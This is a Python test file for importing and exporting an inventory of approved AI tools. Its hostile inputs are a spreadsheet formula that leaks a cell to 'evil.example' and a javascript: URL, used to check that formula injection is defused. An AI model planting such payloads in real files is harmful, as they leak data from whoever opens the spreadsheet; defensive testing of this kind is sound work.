"""Importing and exporting the inventory: all rows or none, bad rows named by line, updates not duplicates."""

import csv
import io
import json

import pytest
from sqlalchemy import func, select

from knowledge.inventory import (
    CSV_COLUMNS,
    MAX_IMPORT_ROWS,
    ImportFailed,
    audit,
    export,
    get_tool,
    import_csv,
    list_tools,
    read_import,
)
from knowledge.inventory.models import Tool
from knowledge.inventory.vocabulary import REGISTER_COLUMNS
from tests.inventory_helpers import SHIPPED_INVENTORY

HEADER = ",".join(CSV_COLUMNS)
GOOD_ROW = "Jasper,Jasper AI,approved,Jasper Chat,,Sam (Marketing),internal,writing,https://www.jasper.ai,"


def tool_count(db) -> int:
    with db.reading() as session:
        return session.scalar(select(func.count(Tool.id)))


def test_the_shipped_inventory_imports(database):
    report = import_csv(database, SHIPPED_INVENTORY, "loader")
    assert len(report.added) == 18 and report.updated == report.unchanged == []
    otter = get_tool(database, "otterpilot")  # found by an alias
    assert (otter.name, otter.status, otter.data_classification, otter.category) == (
        "Otter.ai",
        "approved_with_conditions",
        "internal",
        "meeting assistant",
    )
    assert "no client calls" in otter.conditions and otter.next_review_due is not None
    assert get_tool(database, "Midjourney").next_review_due is None
    assert {t.status for t in list_tools(database, "rejected")} == {"rejected"}
    with database.reading() as session:
        events = audit.trail(session)
    assert len(events) == 18 and {(e.actor, e.action, e.from_state) for e in events} == {("loader", "imported", None)}


def test_a_byte_order_mark_and_windows_line_ends_are_fine(database, tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes(b"\xef\xbb\xbf" + f"{HEADER}\r\n{GOOD_ROW}\r\n".encode())
    assert import_csv(database, path, "loader").added == ["Jasper"]
    assert get_tool(database, "jasper chat").url == "https://www.jasper.ai"


def test_only_name_and_status_columns_are_needed_and_case_does_not_matter(database, tmp_path):
    path = tmp_path / "short.csv"
    path.write_text("Name , STATUS\nJasper,Approved\n\nTabnine,rejected\n")
    assert import_csv(database, path, "loader").added == ["Jasper", "Tabnine"]
    assert get_tool(database, "Jasper").data_classification == "public"


BROKEN = {
    "bad status": (f"{HEADER}\n{GOOD_ROW}\nTabnine,Tabnine,maybe,,,,,,,\n", [(3, "status 'maybe' is not one of")]),
    "missing name": (f"{HEADER}\n{GOOD_ROW}\n ,Tabnine,approved,,,,,,,\n", [(3, "name is required")]),
    "unknown classification": (
        f"{HEADER}\nTabnine,Tabnine,approved,,,,secret,,,\n",
        [(2, "data_classification 'secret'")],
    ),
    "unknown column": ("name,status,colour\nJasper,approved,red\n", [(1, "unknown column(s) colour")]),
    "missing column": ("name,vendor\nJasper,Jasper AI\n", [(1, "missing column(s) status")]),
    "repeated column": ("name,status,name\nJasper,approved,Jazz\n", [(1, "repeated column(s) name")]),
    "too many fields": (
        f"{HEADER}\n{GOOD_ROW}\n{GOOD_ROW.replace('Jasper', 'Tabnine')},extra\n",
        [(3, "11 fields, but the header has 10")],
    ),
    "too few fields": (f"{HEADER}\n{GOOD_ROW}\nTabnine,Tabnine,approved\n", [(3, "3 fields, but the header has 10")]),
    "unbalanced quotes": (
        f'{HEADER}\n{GOOD_ROW}\n"Tabnine,Tabnine,approved,,,,,,,\nCursor,Anysphere,approved,,,,,,,\n',
        [(3, "a quote opened and never closed")],
    ),
    "stray quote": ('name,status\nJasper,"appr"oved\n', [(2, "malformed CSV")]),
    "bad url": ("name,status,url\nJasper,approved,javascript:alert(1)\n", [(2, "url must be a web address")]),
    "control characters": ("name,status\nJas\x1bper,approved\n", [(2, "name contains control characters")]),
    "the same tool twice": ("name,status\nJasper,approved\nJASPER!,rejected\n", [(3, "already appears on line 2")]),
    "over-long fields": (
        f"name,status,notes\n{'n' * 121},approved,{'x' * 5000}\n",
        [(2, "name is longer than 120 characters; notes is longer than 3,000")],
    ),
    "several bad rows": (
        "name,status\n,approved\nJasper,ok\nTabnine,approved\n",
        [(2, "name is required"), (3, "status 'ok'")],
    ),
    "empty file": ("", [(1, "the file is empty")]),
    "blank file": ("\n\n", [(1, "missing column(s) name, status")]),
}


def test_bad_rows_are_reported_by_line_and_nothing_is_imported(database, tmp_path):
    import_csv(database, SHIPPED_INVENTORY, "loader")
    before = export(database, "json")
    for case, (content, expected) in BROKEN.items():
        path = tmp_path / "broken.csv"
        path.write_text(content, encoding="utf-8")
        with pytest.raises(ImportFailed) as failed:
            import_csv(database, path, "loader")
        assert [line for line, _ in failed.value.problems] == [line for line, _ in expected], case
        for (_, message), (_, fragment) in zip(failed.value.problems, expected):
            assert fragment in message, case
        assert export(database, "json") == before, case  # not half-imported: the good rows did not go in either


BINARY = {
    "nul": (b"name,status\nJasper,approved\n\x00\x01\x02garbage", 3, "NUL bytes"),
    "latin-1": (b"name,status\nJasper,approved\nJ\xe4sper,approved\n", 3, "not UTF-8"),
    "binary": (bytes(range(256)) * 40, 1, "NUL bytes"),
}


@pytest.mark.parametrize("raw, line, fragment", BINARY.values(), ids=BINARY.keys())
def test_binary_files_are_refused(tmp_path, raw, line, fragment):
    path = tmp_path / "binary.csv"
    path.write_bytes(raw)
    with pytest.raises(ImportFailed) as failed:
        read_import(path)
    [(reported, message)] = failed.value.problems
    assert reported == line and fragment in message


def test_a_refused_binary_file_leaves_the_inventory_alone(database, tmp_path):
    path = tmp_path / "binary.csv"
    path.write_bytes(BINARY["binary"][0])
    with pytest.raises(ImportFailed):
        import_csv(database, path, "loader")
    assert tool_count(database) == 0


def test_a_missing_file_is_reported(database, tmp_path):
    with pytest.raises(ImportFailed, match="cannot read .*no-such.csv: No such file"):
        import_csv(database, tmp_path / "no-such.csv", "loader")


def test_more_than_ten_thousand_rows_are_refused(database, tmp_path):
    path = tmp_path / "huge.csv"
    path.write_text("name,status\n" + "".join(f"Tool {n},approved\n" for n in range(MAX_IMPORT_ROWS + 1)))
    with pytest.raises(ImportFailed) as failed:
        import_csv(database, path, "loader")
    assert failed.value.problems == [(MAX_IMPORT_ROWS + 2, "more than 10,000 rows: split the file")]
    assert tool_count(database) == 0


def test_ten_thousand_rows_are_accepted(tmp_path):
    path = tmp_path / "big.csv"
    path.write_text("name,status\n" + "".join(f"Tool {n},approved\n" for n in range(MAX_IMPORT_ROWS)))
    assert len(read_import(path).rows) == MAX_IMPORT_ROWS


def test_reimporting_updates_tools_and_never_duplicates_them(database, tmp_path):
    import_csv(database, SHIPPED_INVENTORY, "loader")
    again = import_csv(database, SHIPPED_INVENTORY, "loader")
    assert (len(again.added), len(again.updated), len(again.unchanged)) == (0, 0, 18)

    rows = list(csv.DictReader(SHIPPED_INVENTORY.open(encoding="utf-8")))
    otter = next(row for row in rows if row["name"] == "Otter.ai")
    otter.update(name="OTTER.AI", status="retired", notes="Replaced by Zoom AI Companion")
    changed = tmp_path / "changed.csv"
    with changed.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, CSV_COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    report = import_csv(database, changed, "bob")
    assert report.updated == ["OTTER.AI"] and report.added == [] and len(report.unchanged) == 17
    assert tool_count(database) == 18
    tool = get_tool(database, "otter")
    assert (tool.name, tool.status, tool.next_review_due) == ("OTTER.AI", "retired", None)
    with database.reading() as session:
        last = audit.trail(session)[-1]
    assert (last.actor, last.action, last.from_state, last.to_state) == (
        "bob",
        "imported",
        "approved_with_conditions",
        "retired",
    )
    assert last.comment == "updated from CSV: name, notes, status (no reviewers configured: the importer decided)"


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_export_imports_into_a_fresh_inventory_as_it_was(new_database, tmp_path, fmt):
    original = new_database()
    import_csv(original, SHIPPED_INVENTORY, "loader")
    path = tmp_path / f"inventory.{fmt}"
    path.write_text(export(original, fmt), encoding="utf-8")
    fresh = new_database()
    assert len(import_csv(fresh, path, "loader").added) == 18
    assert export(fresh, "csv") == export(original, "csv")
    columns = lambda db: [
        {k: v for k, v in record.items() if k in CSV_COLUMNS} for record in json.loads(export(db, "json"))
    ]  # noqa: E731
    assert columns(fresh) == columns(original)


def test_the_csv_export_is_the_import_format(database):
    import_csv(database, SHIPPED_INVENTORY, "loader")
    rows = list(csv.DictReader(io.StringIO(export(database, "csv"))))
    assert list(rows[0]) == [*CSV_COLUMNS, *REGISTER_COLUMNS] and len(rows) == 18
    chatgpt = next(row for row in rows if row["name"] == "ChatGPT Enterprise")
    assert chatgpt["aliases"] == "ChatGPT;chat gpt;GPT;OpenAI"
    records = json.loads(export(database, "json"))
    assert records[0].keys() >= {"name", "vendor", "status", "aliases", "review_due", "request", "requested_by"}


def test_broken_json_imports_are_reported(database, tmp_path):
    path = tmp_path / "inventory.json"
    for content, fragment in [
        ('{"name": "Jasper"}', "a list of tools"),
        ('[{"name": "Jasper", "status": "approved"}, 3]', "record 2: not an object"),
        ('[{"name": "Jasper", "status": ["approved"]}]', "record 1: status must be text"),
        (
            '[{"name": "Jasper", "status": "approved"}, {"name": "Tabnine", "status": "nope"}]',
            "record 2: status 'nope'",
        ),
        ('[{"name": "Jasper", "status": "approved"', "malformed JSON at line 1"),
    ]:
        path.write_text(content)
        with pytest.raises(ImportFailed) as failed:
            import_csv(database, path, "loader")
        assert fragment in str(failed.value)
    assert tool_count(database) == 0


def test_a_row_named_after_another_tools_alias_is_refused_not_added_twice(database, tmp_path):
    import_csv(database, SHIPPED_INVENTORY, "loader")
    path = tmp_path / "alias.csv"
    path.write_text(f"{HEADER}\n{GOOD_ROW}\nchat gpt,OpenAI,rejected,,,,public,writing,,\n")
    with pytest.raises(ImportFailed) as failed:
        import_csv(database, path, "loader")
    assert failed.value.problems == [(3, "chat gpt is an alias of ChatGPT Enterprise: use that name to update it")]
    assert tool_count(database) == 18 and get_tool(database, "Jasper") is None
    assert get_tool(database, "ChatGPT Enterprise").status == "approved_with_conditions"


def test_cells_a_spreadsheet_would_run_as_formulas_are_defused_and_still_round_trip(new_database, tmp_path):
    original = new_database()
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    path = tmp_path / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(CSV_COLUMNS)
        writer.writerow(["@SUM(1+1)", "+vendor", "approved", "-alias;=cmd", "", "", "public", "", "", hostile])
    import_csv(original, path, "loader")
    exported = export(original, "csv")
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert "'=HYPERLINK" in exported and "'@SUM(1+1)" in exported
    path.write_text(exported, encoding="utf-8")
    fresh = new_database()
    import_csv(fresh, path, "loader")
    tool = get_tool(fresh, "@SUM(1+1)")
    assert (tool.vendor, tool.aliases, tool.notes) == ("+vendor", ["-alias", "=cmd"], hostile)
